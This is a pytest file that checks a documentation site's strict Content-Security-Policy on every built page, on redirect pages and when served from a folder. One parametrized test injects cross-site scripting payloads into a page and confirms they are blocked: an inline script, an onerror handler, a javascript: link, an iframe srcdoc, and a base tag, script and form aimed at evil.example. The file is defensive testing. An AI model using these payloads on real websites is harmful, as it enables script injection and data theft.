"""The policy of each page: the theme's own files run and nothing else, over http, from a folder, under a sub-path."""

from __future__ import annotations

import re
from importlib import resources
from typing import TYPE_CHECKING, Any

import pytest
from mkdocs.commands.build import build
from mkdocs.config import load_config

from tests.helpers import ROOT, shell, sites

if TYPE_CHECKING:
    from collections.abc import Callable
    from contextlib import AbstractContextManager
    from pathlib import Path

    Window = Callable[..., AbstractContextManager[Any]]

MATERIAL = resources.files("material") / "templates"
_INLINE = re.compile(r"<script(?![^>]*\bsrc=)([^>]*)>(.*?)</script>", re.DOTALL)
_ASKED = re.compile(r"\b__md_\w+")


def scripts(text: str) -> list[str]:
    """Return the inline scripts of a template or a page; JSON is none."""
    return [script for attributes, script in _INLINE.findall(text) if "json" not in attributes]


def policy(page: sites.Element) -> str:
    """Return the policy of a page."""
    (found,) = [each for each in page.all("meta") if "http-equiv" in each.attributes]
    return found.attributes["content"]


def test_no_template_has_a_script_of_its_own() -> None:
    """A server's own policy may refuse it, and one that is let pass lets what is injected pass too."""
    templates = sorted((ROOT / "theme_overrides").rglob("*.html"))
    assert templates
    assert {path.name: found for path in templates if (found := scripts(path.read_text(encoding="utf-8")))} == {}


def test_our_script_answers_all_that_the_themes_scripts_ask() -> None:
    """Fails when Material asks for more than `base.js` has."""
    asked = set(_ASKED.findall((MATERIAL / "partials/javascripts/base.html").read_text(encoding="utf-8")))
    (bundle,) = [
        each
        for each in (MATERIAL / "assets/javascripts").iterdir()
        if each.name.startswith("bundle") and each.name.endswith(".js")
    ]
    asked |= set(_ASKED.findall(bundle.read_text(encoding="utf-8")))
    ours = (ROOT / "theme_overrides/assets/js/base.js").read_text(encoding="utf-8")
    assert asked == {"__md_get", "__md_hash", "__md_scope", "__md_set"}
    assert {name for name in asked if f"window.{name} = " in ours} == asked


def test_every_page_has_the_same_policy_before_anything_it_rules(site_of: Callable[[str], Path]) -> None:
    site = site_of("mueang-pan")
    allowed = set()
    for path in site.rglob("*.html"):
        if sites.leads_on(path) or sites.is_embed(path):
            continue  # looked at below, and in `test_embeds`
        text = path.read_text(encoding="utf-8")
        page = sites.parse(text)
        first = next(each for each in page.one("head").children if isinstance(each, sites.Element))
        assert first.attributes.get("http-equiv") == "Content-Security-Policy", path
        assert b'<meta charset="utf-8">' in path.read_bytes()[:1024], path
        allowed.add(policy(page))
        assert scripts(text) == [], path
        assert not page.all("style"), path
        assert not [
            each for each in page.walk() if any(name == "style" or name.startswith("on") for name in each.attributes)
        ], path
    (only,) = allowed
    rules = dict(rule.split(" ", 1) for rule in only.split("; "))
    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
    assert rules["script-src"] == rules["style-src"] == "'self'"
    assert not re.search(r"unsafe|sha\d|nonce", only)
    assert not re.search(r"https?:|\*", only)


def test_an_address_that_only_leads_on_may_load_the_script_that_does_so_and_nothing_else(
    site_of: Callable[[str], Path],
) -> None:
    found = [path for path in site_of("mueang-pan").rglob("*.html") if sites.leads_on(path)]
    assert found
    for path in found:
        page = sites.parse(path.read_text(encoding="utf-8"))
        rules = [each.attributes for each in page.all("meta") if "http-equiv" in each.attributes]
        assert [each["http-equiv"] for each in rules] == ["Content-Security-Policy", "refresh"], path
        assert rules[0]["content"] == "default-src 'none'; script-src 'self'", path
        (script,) = page.all("script")
        assert (path.parent / script.attributes["src"]).is_file(), path
        assert not "".join(script.texts()).strip()
        assert page.all("style") == page.all("img") == [], path
        assert b'<meta charset="utf-8">' in path.read_bytes()[:1024], path


def test_while_editing_there_is_no_policy_that_would_stop_reloading(mueang_pan: Path, tmp_path: Path) -> None:
    config = load_config(str(mueang_pan / "mkdocs.yml"), site_dir=str(tmp_path / "site"))
    config.plugins.on_startup(command="serve", dirty=False)
    build(config)
    assert "Content-Security-Policy" not in (tmp_path / "site" / "index.html").read_text(encoding="utf-8")


def use(page: Any, home: str) -> list[str]:  # noqa: ANN401 - a Playwright page
    """Use everything that scripts do on pages of each kind, and return what the console complained of."""
    said: list[str] = []
    page.on("console", lambda message: said.append(f"{page.url}: {message.text}") if message.type == "error" else None)
    page.on("pageerror", lambda error: said.append(f"{page.url}: {error}"))
    for address in sites.KINDS.values():
        page.goto(f"{home}{address}index.html")
        assert page.evaluate("document.documentElement.classList.contains('js')"), address
        page.evaluate("document.querySelectorAll('details').forEach(each => { each.open = !each.open })")
    page.goto(f"{home}2568/index.html")
    before = page.evaluate("document.body.dataset.mdColorScheme")
    page.locator("header label[for^=__palette]:visible").click()
    assert page.evaluate("document.body.dataset.mdColorScheme") != before
    assert page.evaluate("[...document.fonts].filter(each => each.status === 'loaded').length") >= 2
    icon = page.locator("button.ita-opens").first
    assert icon.is_visible()
    assert icon.evaluate("each => getComputedStyle(each, '::before').maskImage").startswith('url("data:image/svg+xml')
    return said


def test_nothing_that_the_site_does_is_against_its_policy(home: str, window: Window) -> None:
    with window(viewport={"width": 360, "height": 800}) as visit:
        said = use(visit.page, home)
        shell.open_search(visit.page)
        assert said == []
        assert visit.outside == []


def test_from_a_folder_the_policy_lets_the_site_work(chromium: Any, site_of: Callable[[str], Path]) -> None:  # noqa: ANN401
    context = chromium.new_context(viewport={"width": 360, "height": 800})
    said = use(context.new_page(), f"{site_of('mueang-pan').as_uri()}/")
    context.close()
    # The theme looks for its map of the site and its index; a page from a folder may fetch neither, and needs none.
    assert [each for each in said if "Content Security Policy" in each] == []


@pytest.mark.parametrize(
    "injected",
    [
        "<script>attacked('inline')</script>",
        "<img src=x onerror=\"attacked('handler')\">",
        "<a id=go href=\"javascript:attacked('link')\">x</a>",
        '<iframe srcdoc="<script>parent.attacked(1)</script>"></iframe>',
        '<base href="https://evil.example/">',
        "<script src=https://evil.example/x.js></script>",
        "<form id=f action=https://evil.example/><button id=go>x</button></form>",
        "<style>body{background:red}</style>",
    ],
    ids=["script", "handler", "javascript-link", "frame", "base", "foreign-script", "form", "style"],
)
def test_what_is_injected_into_a_page_does_nothing(
    injected: str,
    site_of: Callable[[str], Path],
    tmp_path: Path,
    serve: Callable[[Path], AbstractContextManager[str]],
    window: Window,
) -> None:
    page = (site_of("mueang-pan") / "contact" / "index.html").read_text(encoding="utf-8")
    marked = page.replace(
        '<article class="md-content__inner md-typeset">', f'<article class="md-content__inner md-typeset">{injected}'
    )
    assert marked != page
    (tmp_path / "index.html").write_text(marked, encoding="utf-8")
    with serve(tmp_path) as home, window() as visit:
        refused: list[str] = []
        visit.page.on(
            "requestfailed", lambda request: refused.append(request.url) if request.failure == "csp" else None
        )
        visit.page.goto(home)
        if "id=go" in injected:
            visit.page.locator("#go").click(force=True, no_wait_after=True)
        visit.page.wait_for_load_state()
        assert visit.attacks == []
        assert visit.outside == refused, "what the policy refuses does not leave the browser"
        assert visit.page.url == home
        assert visit.page.evaluate("document.baseURI") == home
        assert visit.page.evaluate("getComputedStyle(document.body).backgroundColor") != "rgb(255, 0, 0)"
